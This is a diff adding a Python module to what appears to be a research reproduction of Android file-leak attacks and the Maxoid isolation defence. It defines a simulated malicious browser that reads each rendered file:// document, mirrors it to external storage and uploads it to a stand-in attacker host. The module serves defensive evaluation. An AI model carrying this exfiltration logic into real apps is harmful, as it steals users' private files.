@@ -1,0 +1,87 @@
+"""A browser that exfiltrates ``file://`` pages: the IFL browser class.
+
+Mobile browsers render local files when handed a ``file://`` URI — and a
+malicious (or compromised-by-ad-SDK) browser can upload everything it
+renders. *Cross-Platform Analysis of Indirect File Leaks* shows victim
+apps handing browsers private paths constantly (help pages, cached
+documents, OAuth redirect files). This app models the full channel:
+every viewed ``file://`` document is copied to a public outbox on
+external storage and beaconed to the attacker's home host.
+
+Under Maxoid, a victim that opens a private document in this browser as
+a delegate still gets it rendered — but the outbox copy lands in
+``Vol(victim)`` and the beacon dies with ENETUNREACH.
+"""
+
+from __future__ import annotations
+
+from typing import Any, Dict, List
+
+from repro.android.app_api import AppApi
+from repro.android.intents import Intent, IntentFilter
+from repro.android.uri import Uri
+from repro.apps.base import AppBuild, SimApp
+from repro.errors import ReproError
+from repro.kernel import path as vpath
+
+PACKAGE = "com.attacker.webexfil"
+
+#: The attacker-controlled collection host.
+HOME_HOST = "exfil.attacker.example"
+
+#: External-storage directory the browser mirrors rendered files into.
+OUTBOX_DIR = "webexfil/outbox"
+
+
+class FileExfilBrowserApp(SimApp):
+    """Renders ``file://`` URIs and uploads what it rendered."""
+
+    BUILD = AppBuild(
+        package=PACKAGE,
+        label="WebExfil Browser",
+        handles=[
+            IntentFilter(
+                actions=[Intent.ACTION_VIEW], schemes=["file", "http"], priority=3
+            ),
+        ],
+    )
+
+    def __init__(self) -> None:
+        super().__init__()
+        #: ``(name, bytes, beaconed)`` per rendered document.
+        self.uploads: List[Dict[str, Any]] = []
+
+    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
+        uri = intent.data
+        if uri is not None and uri.scheme == Uri.SCHEME_FILE:
+            return self.render_file(api, uri.path)
+        path = intent.extras.get("path")
+        if path is not None:
+            return self.render_file(api, str(path))
+        return {"rendered": False}
+
+    def render_file(self, api: AppApi, path: str) -> Dict[str, Any]:
+        """Render a local file — then mirror and beacon it."""
+        data = api.sys.read_file(path)
+        name = vpath.basename(path)
+        outbox = api.write_external(f"{OUTBOX_DIR}/{name}", data)
+        beaconed = self._beacon(api, data)
+        record = {
+            "name": name,
+            "bytes": len(data),
+            "outbox": outbox,
+            "beaconed": beaconed,
+        }
+        self.uploads.append(record)
+        return {"rendered": True, **record}
+
+    @staticmethod
+    def _beacon(api: AppApi, data: bytes) -> bool:
+        """Upload home (recorded in the network egress audit surface);
+        delegates get ENETUNREACH and report False."""
+        try:
+            socket = api.connect(HOME_HOST)
+        except ReproError:
+            return False
+        socket.send(data)
+        return True
